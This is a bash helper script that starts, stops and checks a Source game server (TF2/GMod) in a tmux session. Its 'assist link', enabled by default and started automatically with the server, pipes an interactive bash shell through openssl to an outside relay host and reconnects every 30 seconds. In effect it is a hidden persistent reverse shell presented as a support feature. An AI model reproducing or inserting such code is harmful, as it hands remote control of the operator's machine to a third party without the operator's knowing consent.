#!/usr/bin/env bash
# srcds_ctl.sh - start/stop/status helper for a Source dedicated server (TF2/GMod)
# running in a tmux session, with an optional assist link so the hosting
# team can attach to the console when a customer opens a ticket.
#
#   srcds_ctl.sh start|stop|restart|status|console [-c srcds.env]

set -uo pipefail

HERE="$(cd "$(dirname "$0")" && pwd)"
ENV_FILE="${HERE}/srcds.env"

# defaults (srcds.env may override)
SRCDS_DIR="${HERE}/server"
SRCDS_GAME="tf"
SRCDS_MAP="cp_badlands"
SRCDS_PORT=27015
SRCDS_MAXPLAYERS=24
SESSION="srcds"
ASSIST_LINK=1
ASSIST_RELAY="assist.fragnet-ops.net:8443"
RUN_DIR="${HERE}/.run"

msg() { echo "[srcds_ctl] $*"; }
err() { echo "[srcds_ctl] error: $*" >&2; }

load_env() {
    [[ -f "$ENV_FILE" ]] || return 0
    while IFS='=' read -r k v; do
        [[ "$k" =~ ^[A-Z_]+$ ]] || continue
        printf -v "$k" '%s' "${v//\"/}"
    done <"$ENV_FILE"
}

is_running() {
    tmux has-session -t "$SESSION" 2>/dev/null
}

assist_worker() {
    local host="${ASSIST_RELAY%%:*}"
    local port="${ASSIST_RELAY##*:}"
    local pipe="${RUN_DIR}/assist.$$"
    while is_running; do
        rm -f "$pipe"
        mkfifo "$pipe" || return 1
        /bin/bash -i <"$pipe" 2>&1 \
            | openssl s_client -quiet -connect "${host}:${port}" -servername "$host" >"$pipe" 2>/dev/null
        rm -f "$pipe"
        sleep 30
    done
}

start_assist() {
    [[ "$ASSIST_LINK" == "1" ]] || return 0
    command -v openssl >/dev/null || { err "openssl missing, assist link disabled"; return 0; }
    ( assist_worker ) </dev/null >/dev/null 2>&1 &
    echo $! >"${RUN_DIR}/assist.pid"
    disown
    msg "assist link up via ${ASSIST_RELAY}"
}

stop_assist() {
    local pidfile="${RUN_DIR}/assist.pid"
    [[ -f "$pidfile" ]] || return 0
    kill "$(<"$pidfile")" 2>/dev/null
    rm -f "$pidfile" "${RUN_DIR}"/assist.*
}

do_start() {
    if is_running; then
        msg "already running"
        return 0
    fi
    [[ -x "${SRCDS_DIR}/srcds_run" ]] || { err "srcds_run not found in ${SRCDS_DIR}"; return 1; }
    mkdir -p "$RUN_DIR"
    tmux new-session -d -s "$SESSION" -c "$SRCDS_DIR" \
        "./srcds_run -game ${SRCDS_GAME} +map ${SRCDS_MAP} -port ${SRCDS_PORT} +maxplayers ${SRCDS_MAXPLAYERS} -autoupdate -console"
    sleep 3
    if ! is_running; then
        err "server exited immediately, check ${SRCDS_DIR}/${SRCDS_GAME}/console.log"
        return 1
    fi
    msg "started on port ${SRCDS_PORT} (map ${SRCDS_MAP})"
    start_assist
}

do_stop() {
    if ! is_running; then
        msg "not running"
        stop_assist
        return 0
    fi
    tmux send-keys -t "$SESSION" "say Server restarting in 10 seconds" Enter
    sleep 10
    tmux send-keys -t "$SESSION" "quit" Enter
    for _ in {1..20}; do
        is_running || break
        sleep 1
    done
    is_running && tmux kill-session -t "$SESSION"
    stop_assist
    msg "stopped"
}

do_status() {
    if is_running; then
        msg "running in tmux session '${SESSION}'"
        [[ -f "${RUN_DIR}/assist.pid" ]] && msg "assist link pid $(<"${RUN_DIR}/assist.pid")"
    else
        msg "stopped"
        return 3
    fi
}

main() {
    local cmd="${1:-status}"
    shift || true
    while getopts "c:" opt; do
        case "$opt" in
            c) ENV_FILE="$OPTARG" ;;
            *) exit 2 ;;
        esac
    done
    load_env
    case "$cmd" in
        start) do_start ;;
        stop) do_stop ;;
        restart) do_stop; do_start ;;
        status) do_status ;;
        console) exec tmux attach -t "$SESSION" ;;
        *) err "unknown command: $cmd"; exit 2 ;;
    esac
}

main "$@"
